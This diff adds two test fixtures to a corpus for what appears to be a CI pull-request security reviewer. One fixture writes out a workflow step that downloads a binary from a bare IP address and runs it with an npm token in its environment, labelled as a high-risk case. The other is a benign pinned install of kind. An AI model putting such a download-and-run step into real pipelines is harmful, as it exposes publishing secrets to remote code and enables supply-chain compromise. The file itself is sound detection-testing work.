@@ -835,4 +835,34 @@ export const CI_CASES: CorpusEntry[] = [
     }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], findings: ['gha-use-trusted-publishing'], absentDrivers: ['finding:gha-excessive-permissions'] },
   },
+  {
+    id: 'ci-binary-from-bare-ip-run',
+    description: 'A "speed up CI" PR adds a step that downloads a cache helper from a bare IP address and runs it with the job\'s secrets (how compromised workflows fetched their second stage in 2025).',
+    fixture: ciPr(1993, {
+      title: 'ci: warm the npm cache with a helper',
+      files: [
+        {
+          path: '.github/workflows/ci.yml',
+          base: ciWorkflow(),
+          head: ciWorkflow({ extraStep: ['      - run: |', '          curl -sLo /tmp/cache-helper https://185.199.110.7/tools/cache-helper', '          chmod +x /tmp/cache-helper && /tmp/cache-helper warm', '        env:', '          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}'] }),
+        },
+      ],
+    }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['downloaded-binary-run'] },
+  },
+  {
+    id: 'ci-tool-from-release-page-run',
+    description: 'A maintainer installs kind from its GitHub release (pinned version) and runs the e2e tests with it.',
+    fixture: ciPr(1994, {
+      title: 'ci: run the e2e tests on kind',
+      files: [
+        {
+          path: '.github/workflows/ci.yml',
+          base: ciWorkflow(),
+          head: ciWorkflow({ extraStep: ['      - run: |', '          curl -sLo ./kind https://github.com/kubernetes-sigs/kind/releases/download/v0.24.0/kind-linux-amd64', '          chmod +x ./kind && ./kind create cluster', '      - run: npm run test:e2e'] }),
+        },
+      ],
+    }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:downloaded-binary-run'] },
+  },
 ];
